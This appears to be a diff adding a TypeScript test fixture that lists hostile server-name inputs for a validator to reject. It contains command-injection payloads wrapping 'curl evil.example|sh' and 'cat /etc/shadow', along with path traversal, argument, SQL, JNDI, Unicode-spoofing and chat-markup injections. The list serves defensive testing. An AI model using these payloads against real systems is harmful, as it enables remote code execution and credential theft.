@@ -1,0 +1,75 @@
+// What people, and what pretends to be people, may type where a name or a value is asked for.
+
+const commands = ['id', 'reboot', 'curl evil.example|sh', 'touch /tmp/pwned', 'cat /etc/shadow'];
+
+const wrapped = commands.flatMap((command) => [
+  `$(${command})`,
+  `\`${command}\``,
+  `; ${command}`,
+  `&& ${command}`,
+  `| ${command}`,
+  `'; ${command}; '`,
+  `"; ${command}; "`,
+  `\${IFS}${command}`,
+  `x\n${command}`,
+  `x\r\n${command}`,
+  `x\0${command}`,
+  `{{ lookup('pipe', '${command}') }}`,
+  `{% ${command} %}`,
+  `<(${command})`,
+]);
+
+/** More than a hundred, each of them no name of a server. */
+export const hostileNames: string[] = [
+  ...wrapped,
+  ...['-oProxyCommand=id', '--help', '-rf', '-', '--', '-e', '-v'],
+  ...['../../etc/passwd', '/etc/passwd', './x', '..', '.', '~', '~root', 'C:\\x', '\\\\host\\share'],
+  ...[
+    'web 1',
+    'web\t1',
+    ' ',
+    '',
+    'a'.repeat(64),
+    'a'.repeat(300),
+    'web_1',
+    'web.1',
+    'web-',
+    '-web',
+    '1',
+    '007',
+  ],
+  ...[
+    'wéb',
+    'веб',
+    '网站',
+    'web\u202e1',
+    'web\u200b1',
+    '\u202eweb',
+    'w\u0000eb',
+    '\ufeffweb\ufeff!',
+    '💥',
+    'e\u0301web',
+  ],
+  ...[
+    "web' or '1'='1",
+    'web"; drop table servers; --',
+    '%00',
+    '%2e%2e',
+    `\${jndi:ldap://x}`,
+    '$HOME',
+    '*',
+    '?',
+    '[a-z]',
+  ],
+  ...[
+    '<@U0ANA>',
+    '<!channel>',
+    '<https://evil.example|web>',
+    '*bold*',
+    '@here',
+    '#ops',
+    '&lt;b&gt;',
+    'a=b',
+    'ssh://x',
+  ],
+];
